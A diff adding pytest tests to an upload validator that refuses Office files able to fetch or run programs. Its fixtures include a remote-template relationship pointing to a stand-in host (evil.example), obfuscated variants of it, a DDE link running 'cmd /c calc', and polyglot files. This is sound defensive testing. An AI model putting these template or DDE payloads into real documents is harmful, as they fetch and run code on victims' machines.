@@ -90,6 +90,53 @@ def test_macros_and_embedded_programs_are_refused(content: bytes) -> None:
         kind_of("回复.docx", content)
 
 
+TEMPLATE = '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
+
+
+@pytest.mark.parametrize(
+    ("name", "part"),
+    [
+        ("word/_rels/settings.xml.rels", TEMPLATE),
+        ("word/_rels/settings.xml.rels", TEMPLATE.replace("attachedTemplate", "attached&#84;emplate")),
+        ("word/_rels/settings.xml.rels", TEMPLATE.encode("utf-16")),
+        ("word/_rels/document.xml.rels", TEMPLATE.replace("attachedTemplate", "oleObject")),
+        (
+            "word/externalLinks/externalLink1.xml",
+            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+        ),
+    ],
+)
+def test_what_fetches_a_program_from_elsewhere_is_refused(name: str, part: str) -> None:
+    with pytest.raises(FileHasMacros):
+        kind_of("回复.docx", office(**{name: part}))
+
+
+def test_a_link_to_click_on_is_no_program() -> None:
+    link = TEMPLATE.replace("attachedTemplate", "hyperlink")
+    assert kind_of("回复.docx", office(**{"word/_rels/document.xml.rels": link})) == "docx"
+    assert kind_of("f.xlsx", xlsx()) == "xlsx"
+
+
+def test_links_without_end_are_refused() -> None:
+    with pytest.raises(FileIsFalse):
+        kind_of("回复.docx", office(**{"word/_rels/a.rels": "x" * (3 * 1024 * 1024)}))
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("回复.pdf", PDF + office()),
+        ("回复.docx", b"<html>" + office()),
+        ("回复.png", png() + b"<script>" * 1000),
+        ("回复.jpg", PDF + JPG),
+    ],
+)
+def test_two_kinds_in_one_are_refused(name: str, content: bytes) -> None:
+    padded = content + b"\0" * 4096 if name.endswith("pdf") else content
+    with pytest.raises(FileIsFalse):
+        kind_of(name, padded)
+
+
 @pytest.mark.parametrize("name", ["a.exe", "a.docm", "a.svg", "a.pdf.html", "pdf", "", "a.zip", "a.doc"])
 def test_other_kinds_are_not_welcome(name: str) -> None:
     with pytest.raises(FileIsNotWelcome):
